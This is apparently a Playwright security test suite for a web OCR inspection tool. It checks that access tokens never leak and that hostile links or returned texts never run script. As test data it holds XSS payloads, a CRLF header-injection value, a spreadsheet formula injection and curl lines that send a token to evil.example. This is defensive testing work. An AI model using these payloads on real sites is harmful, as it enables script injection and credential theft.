import { readFile } from 'node:fs/promises';
import type { Page } from '@playwright/test';
import { expect, matches, open, status, test } from './support/test.ts';
import { patterned } from './support/png.ts';
import { base64, rectangles, script, seen, type UpstreamAnswer } from './support/upstream.ts';
import { HOSTILE_LINKS } from './support/hostile-links.ts';

const CANARY = 'canaryTokenXq7Zv';
const GROUPS = 6;

const tokenField = (page: Page) => page.getByLabel('Access token');
const detectionField = (page: Page) => page.getByRole('textbox', { name: 'Detection task ID' });
const inspect = (page: Page) => page.getByRole('button', { name: 'Inspect' });

test.describe('a hostile link', () => {
  // An id that nobody knows is answered with 404.
  test.use({ expected: { errors: [/status of 404/] } });

  test('there are fifty of them or more', () => expect(HOSTILE_LINKS.length).toBeGreaterThanOrEqual(50));

  for (let group = 0; group < GROUPS; group += 1) {
    const links = HOSTILE_LINKS.filter((_, at) => at % GROUPS === group);
    test(`asks nobody, runs nothing, and never says where the token goes (${group + 1} of ${GROUPS})`, async ({
      page,
      baseURL,
    }) => {
      const asked: URL[] = [];
      const sentTokens: string[] = [];
      const dialogs: string[] = [];
      page.on('request', (request) => {
        asked.push(new URL(request.url()));
        const sent = request.headers()['authorization'];
        if (sent !== undefined) sentTokens.push(sent);
      });
      page.on('dialog', (dialog) => {
        dialogs.push(dialog.message());
        void dialog.dismiss();
      });
      for (const link of links) {
        await test.step(link.slice(0, 120), async () => {
          asked.length = 0;
          // By way of an empty page: from one hash to the next nothing would be loaded.
          await page.goto('about:blank');
          await open(page, `./${link}`);
          await expect(tokenField(page)).toHaveValue('');
          expect(page.url()).not.toContain('linkToken');
          expect(asked.filter(({ pathname }) => /^\/(?:api|emulator)\//.test(pathname))).toEqual([]);
          await expect(page.getByRole('radio', { name: 'Through this server' })).toBeChecked();

          await tokenField(page).fill(CANARY);
          await inspect(page).click();
          await page.waitForTimeout(50);
          expect(asked.filter(({ origin, protocol }) => protocol !== 'blob:' && origin !== originOf(baseURL))).toEqual(
            [],
          );
          for (const { pathname } of asked.filter((url) => url.pathname.startsWith('/api')))
            expect(pathname).toMatch(/^\/api\/v5\.0\/ocr\/(?:Detect|Recognize)Regions$/);
          expect(await page.evaluate(() => 'hacked' in globalThis)).toBe(false);
          expect(await page.locator('script:not([src*="assets/"]), iframe, object, embed, base, form').count()).toBe(0);
        });
      }
      expect(dialogs).toEqual([]);
      expect(new Set(sentTokens)).toEqual(new Set([`Bearer ${CANARY}`]));
    });
  }
});

test.describe('a token', () => {
  test.use({ expected: { errors: [/status of (?:401|403|500)/] } });

  test('is found nowhere but in the Authorization header to this server', async ({ page }) => {
    const heard = listenTo(page);
    const bodies: readonly UpstreamAnswer[] = [
      { status: 401, headers: { 'content-type': 'text/plain' }, body: '{"title":"Unauthorized","status":401}' },
      { status: 500, body: '' },
      { body: '<html>Sign in</html>', headers: { 'content-type': 'text/html' } },
      { body: '{"taskStatus": "Compl' },
      rectangles([[1, 1, 20, 20]]),
    ];
    const id = await script(bodies);
    await open(page);
    await tokenField(page).fill(`Bearer ${CANARY}-refused`);
    await detectionField(page).fill(id);
    await inspect(page).click();
    await expect(status(page, 'Detection task')).toContainText(/^Needs a token/);
    await expectNowhere(page, heard);

    await tokenField(page).fill(`"${CANARY}-good"`);
    await tokenField(page).press('Enter');
    await page.getByLabel('Source image').setInputFiles({
      name: 'scan.png',
      mimeType: 'image/png',
      buffer: patterned(30, 30),
    });
    await expect(matches(page)).toHaveText('1 of 1 regions', { timeout: 20_000 });
    const group = page.getByRole('group', { name: 'Detection task' });
    await group.getByRole('button', { name: /Log of checks/ }).click();
    await expectNowhere(page, heard);
    expect((await seen(id)).map(({ headers }) => headers['authorization'])).toEqual([
      `Bearer ${CANARY}-refused`,
      ...Array<string>(4).fill(`Bearer ${CANARY}-good`),
    ]);

    await page.getByRole('button', { name: 'Export', exact: true }).click();
    await page.getByRole('menuitem', { name: 'Crops...' }).click();
    const downloading = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Download' }).click();
    const download = await downloading;
    // Stored or deflated: what is in it is small, and the manifest would tell.
    expect((await readFile(await download.path())).toString('latin1')).not.toContain(CANARY);
    expect(download.suggestedFilename()).not.toContain(CANARY);
    await expectNowhere(page, heard);
    expect(await reachableFromReact(page, CANARY)).toEqual([]);
  });

  const WAYS: Record<string, (page: Page) => Promise<void>> = {
    'with a character that no header may carry': (page) => fillToken(page, `${CANARY}\u2026`),
    'with a line break and another header': (page) => fillToken(page, `${CANARY}\r\nX-Evil: 1`),
    'as JSON that is cut': (page) => fillToken(page, `{"access_token": "${CANARY}`),
    'as a header that is pasted on the page': (page) => paste(page, `Authorization: Bearer ${CANARY}`),
    'in a curl command': (page) =>
      paste(page, `curl 'https://evil.example/v5.0/ocr/DetectRegions?id=a1' -H 'Authorization: Bearer ${CANARY}'`),
    'in an address': (page) => paste(page, `https://evil.example/v5.0/ocr/DetectRegions?id=a1&access_token=${CANARY}`),
    'in the answer of connect/token': (page) => paste(page, JSON.stringify({ access_token: CANARY, expires_in: 60 })),
    'in words that nobody understands': (page) => paste(page, `{"Authorization": "Bearer ${CANARY}", `),
    'in a command of an unknown kind': (page) => paste(page, `curl -d '{"a": "${CANARY}"' -H 'X-Key: ${CANARY}'`),
    'in the address of the page': async (page) => {
      await page.goto('about:blank');
      await open(page, `./?access_token=${CANARY}#token=${CANARY}&detect=a1`);
    },
  };
  for (const [way, give] of Object.entries(WAYS)) {
    test(`given ${way} is in no address, no storage, no message`, async ({ page }) => {
      await open(page);
      const heard = listenTo(page, { ownLoads: false });
      await give(page);
      await page.waitForTimeout(100);
      await expectNowhere(page, heard);
      expect(await page.evaluate(() => history.length)).toBeLessThanOrEqual(4);
    });
  }

  test('of a link is offered, and used only when the person says so', async ({ page }) => {
    const id = await script([rectangles([[1, 1, 20, 20]])]);
    const heard = listenTo(page, { ownLoads: false });
    await open(page, `./#detect=${id}&token=${CANARY}`);
    await inspect(page).click();
    await expect(status(page, 'Detection task')).toContainText(/^Needs a token/);
    expect(await seen(id)).toHaveLength(0);
    await expectNowhere(page, heard);
    await page.getByRole('button', { name: 'Use it' }).click();
    await inspect(page).click();
    await expect(matches(page)).toHaveText('1 of 1 regions');
    expect((await seen(id)).map(({ headers }) => headers['authorization'])).toEqual([`Bearer ${CANARY}`]);
    await expectNowhere(page, heard);
  });
});

test('texts with markup, formulas and worse are shown as text', async ({ page }) => {
  const TEXTS = [
    '<img src=x onerror="globalThis.hacked=1">',
    '</script><script>globalThis.hacked=1</script>',
    '<svg/onload=globalThis.hacked=1>',
    '{{constructor.constructor("globalThis.hacked=1")()}}',
    '"><iframe srcdoc="<script>parent.hacked=1</script>">',
    '=HYPERLINK("https://evil.example")',
    '\u202Egnp.exe\u202C\u0000\u001B[31m',
    '\uFEFF&lt;b&gt;',
  ];
  const detection = await script([rectangles(TEXTS.map((_, at) => [1, at * 10, 90, at * 10 + 9]))]);
  const recognition = await script([
    {
      body: {
        taskStatus: 'Completed',
        results: TEXTS.map((text) => ({ type: 'Text', data: base64(text) })),
        error: { messages: [], warnings: ['<img src=x onerror=hacked=1>'] },
      },
    },
  ]);
  await open(page);
  await tokenField(page).fill(CANARY);
  await detectionField(page).fill(detection);
  await page.getByRole('textbox', { name: 'Recognition task ID' }).fill(recognition);
  await inspect(page).click();
  await expect(matches(page)).toHaveText(`${TEXTS.length} of ${TEXTS.length} regions`);
  for (const text of TEXTS.slice(0, 3))
    await expect(page.getByRole('listbox', { name: 'Regions' })).toContainText(text);
  await page.getByRole('button', { name: 'Text', exact: true }).click();
  expect(await page.evaluate(() => 'hacked' in globalThis)).toBe(false);
  expect(await page.locator('img[src="x"], iframe, script:not([src*="assets/"])').count()).toBe(0);
});

const originOf = (address: string | undefined): string => new URL(address ?? '').origin;

async function fillToken(page: Page, text: string): Promise<void> {
  await tokenField(page).fill(text);
  await inspect(page).click();
}

/** A real paste event: headless Chromium lets no test read the system's clipboard. */
async function paste(page: Page, text: string): Promise<void> {
  await page.evaluate((pasted) => {
    const data = new DataTransfer();
    data.setData('text/plain', pasted);
    document.body.dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));
  }, text);
}

/** Whatever leaves the page or is written down: addresses, headers but Authorization, bodies, console. */
function listenTo(page: Page, { ownLoads = true } = {}): string[] {
  const heard: string[] = [];
  page.on('request', (request) => {
    // The link with the token in it was opened by the test.
    if (!ownLoads && request.isNavigationRequest()) return;
    const { authorization: _authorization, ...headers } = request.headers();
    heard.push(request.url(), JSON.stringify(headers), request.postData() ?? '');
  });
  page.on('console', (message) => heard.push(message.text()));
  page.on('pageerror', (error) => heard.push(error.stack ?? error.message));
  return heard;
}

async function expectNowhere(page: Page, heard: readonly string[]): Promise<void> {
  const written = await page.evaluate(async () => ({
    document: document.documentElement.outerHTML,
    title: document.title,
    address: location.href,
    history: JSON.stringify(history.state),
    name: window.name,
    cookie: document.cookie,
    localStorage: JSON.stringify(Object.entries(localStorage)),
    sessionStorage: JSON.stringify(Object.entries(sessionStorage)),
    databases: JSON.stringify(await indexedDB.databases()),
    caches: JSON.stringify(await caches.keys()),
    reached: performance
      .getEntriesByType('resource')
      .map(({ name }) => name)
      .join(' '),
  }));
  const places = Object.entries(written).filter(([, text]) => text.includes(CANARY));
  expect(places.map(([place]) => place)).toEqual([]);
  expect(heard.filter((text) => text.includes(CANARY))).toEqual([]);
}

/** Paths of properties, from React's own tree, at which a text with `wanted` stands: query keys, stores, props, errors. */
function reachableFromReact(page: Page, wanted: string): Promise<string[]> {
  return page.evaluate((text) => {
    const root = document.querySelector('#root');
    const start = root && Object.entries(root).find(([name]) => name.startsWith('__reactContainer'))?.[1];
    const paths: string[] = start ? [] : ['React’s tree was not found'];
    const known = new Set<unknown>();
    const queue: [string, unknown][] = [['root', start]];
    for (let next = queue.pop(); next && known.size < 200_000; next = queue.pop()) {
      const [path, value] = next;
      if (typeof value === 'string' && value.includes(text)) paths.push(path);
      const opened = (typeof value === 'object' && value !== null) || typeof value === 'function';
      if (!opened || known.has(value) || value instanceof Node || value === globalThis || ArrayBuffer.isView(value))
        continue;
      known.add(value);
      if (value instanceof Map)
        for (const [key, inner] of value) queue.push([`${path}<key>`, key], [`${path}<${String(key)}>`, inner]);
      else if (value instanceof Set) for (const inner of value) queue.push([`${path}<>`, inner]);
      for (const [key, { value: inner }] of Object.entries(Object.getOwnPropertyDescriptors(value)))
        queue.push([`${path}.${key}`.slice(-300), inner]);
    }
    return paths;
  }, wanted);
}
